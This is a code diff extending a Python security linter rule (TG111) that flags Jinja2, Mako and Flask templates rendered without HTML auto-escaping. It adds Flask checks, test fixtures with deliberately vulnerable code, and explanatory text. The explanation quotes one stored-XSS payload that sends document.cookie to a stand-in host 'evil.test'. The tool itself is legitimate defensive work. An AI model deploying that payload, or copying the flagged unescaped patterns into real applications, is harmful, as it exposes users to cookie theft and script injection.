@@ -1,4 +1,5 @@
-"""TG111: a Jinja2 or Mako template engine that renders HTML without auto-escaping."""
+"""TG111: a Jinja2 or Mako template engine that renders HTML without auto-escaping, or a Flask page
+rendered from a template Flask does not auto-escape."""
 
 from __future__ import annotations
 
@@ -7,6 +8,7 @@ import ast
 from tabguard.engine.fixes import expression_fix, set_keyword, text_fix
 from tabguard.engine.rule import Invalid, Rule
 from tabguard.rules.injection import last_names
+from tabguard.rules.injection._html import FLASK_RENDER, returns_html, sent_as_page, unescaped_template
 from tabguard.rules.injection._strings import constant_text
 
 _ENVIRONMENTS = frozenset({"jinja2.Environment", "jinja2.environment.Environment", "jinja2.Template"})
@@ -33,6 +35,9 @@ def _falsy_constant(value: ast.expr, ctx) -> bool:
     return False
 
 
+_FLASK = "from flask import Flask, render_template\napp = Flask(__name__)\n"
+
+
 class Jinja2AutoescapeOff(Rule):
     id = "TG111"
     name = "template-autoescape-off"
@@ -43,16 +48,19 @@ class Jinja2AutoescapeOff(Rule):
     message = "{what}: variables are inserted into HTML unescaped"
     placeholders = {"what": "Jinja2 environment without autoescape"}
     aliases = ("B701", "S701")
-    call_names = last_names(_ENVIRONMENTS | _MAKO)
+    call_names = last_names(_ENVIRONMENTS | _MAKO | FLASK_RENDER)
     what = "{what}, so `{{{{ value }}}}` (Mako: `${{value}}`) writes the value into the page as raw HTML."
     why = (
-        "Jinja2's default is `autoescape=False` (Flask turns it on for its own environment only). A "
+        "Jinja2's default is `autoescape=False` (Flask turns it on for its own environment, and only for "
+        "templates named `.html`, `.htm`, `.xml`, `.xhtml` or `.svg`: a page rendered from `profile.txt` "
+        "or `page.jinja2` is sent as `text/html` unescaped). A "
         "stored comment such as `<script>new Image().src='//evil.test?c='+document.cookie</script>` "
         "rendered through `Environment(loader=...)` runs in every reader's browser."
     )
     how = (
         "Create Jinja2 environments with `autoescape=select_autoescape()` (escaping for .html/.xml "
-        "templates and strings) or `autoescape=True`; give Mako `default_filters=[\"h\"]`. Mark trusted "
+        "templates and strings) or `autoescape=True`; give Mako `default_filters=[\"h\"]`. Name Flask page "
+        "templates `.html`, or send text templates as `text/plain`. Mark trusted "
         "snippets with `Markup` in code, not by switching escaping off."
     )
     example = 'env = Environment(loader=FileSystemLoader("templates"), autoescape=select_autoescape())'
@@ -72,6 +80,12 @@ class Jinja2AutoescapeOff(Rule):
         'import jinja2\nt = jinja2.Template("Dear {{ name }},")\n',
         'from mako.lookup import TemplateLookup\nlookup = TemplateLookup(directories=["t"], default_filters=["h"])\n',
         'def f(app):\n    app.jinja_env.autoescape = True\n',
+        _FLASK + '@app.route("/notes")\ndef notes():\n    return render_template("notes.html", notes=Note.query.all())\n',
+        # A plain-text email body is not a page; nor is a text response that says so.
+        _FLASK + 'def welcome(msg, user):\n    msg.body = render_template("welcome.txt", user=user)\n',
+        _FLASK + '@app.route("/feed.txt")\ndef feed():\n'
+        '    return render_template("feed.txt", items=load()), 200, {"Content-Type": "text/plain"}\n',
+        _FLASK + '@app.route("/robots.txt")\ndef robots():\n    return render_template("robots.txt")\n',
     )
     INVALID = (
         Invalid(
@@ -100,10 +114,16 @@ class Jinja2AutoescapeOff(Rule):
         ),
         Invalid('from flask import Flask\napp = Flask(__name__)\napp.jinja_env.autoescape = False\n',
                 'from flask import Flask\napp = Flask(__name__)\napp.jinja_env.autoescape = True\n'),
+        Invalid(_FLASK + '@app.route("/notes")\ndef notes():\n    return render_template("notes.j2", notes=Note.query.all())\n'),
+        Invalid(_FLASK + '@app.route("/r/<kind>")\ndef report(kind):\n    page = render_template("%s.txt" % KINDS[kind], rows=load())\n'
+                '    return page.replace("\\n", "<br>")\n'),
     )
 
     def visit_Call(self, node: ast.Call, ctx) -> None:
         callee = ctx.call_name(node) or ""
+        if callee in FLASK_RENDER:
+            self._check_flask_page(node, ctx)
+            return
         if callee in _MAKO:
             self._check_mako(node, ctx)
             return
@@ -124,6 +144,18 @@ class Jinja2AutoescapeOff(Rule):
         # An explicit `autoescape=False` is the flaw itself: point at it (the whole call when it is missing).
         ctx.report(self, keyword if keyword is not None else node, details={"what": what},
                    fix=expression_fix(ctx, node, set_keyword("autoescape", value), f"Fix: set autoescape={value}", safe=False))
+
+    def _check_flask_page(self, node: ast.Call, ctx) -> None:
+        """A route returns a page rendered, with variables, from a template Flask does not escape."""
+        name = unescaped_template(node, ctx)
+        context = [*node.args[1:], *(k.value for k in node.keywords)]
+        if name is None or not context or not returns_html(ctx.function, ctx):
+            return
+        if all(isinstance(v, ast.Call) and (ctx.call_name(v) or "").rpartition(".")[2] == "escape" for v in context):
+            return  # every value escaped by hand (`html.escape(...)`)
+        if any(ctx.taint(k.value) is not None for k in node.keywords) or not sent_as_page(node, ctx):
+            return  # user input rendered this way is TG110's finding
+        ctx.report(self, node.args[0], details={"what": f"Flask page rendered from `{name}`, a template Flask does not auto-escape"})
 
     def _check_mako(self, node: ast.Call, ctx) -> None:
         """Mako escapes nothing unless `default_filters` includes `h`."""
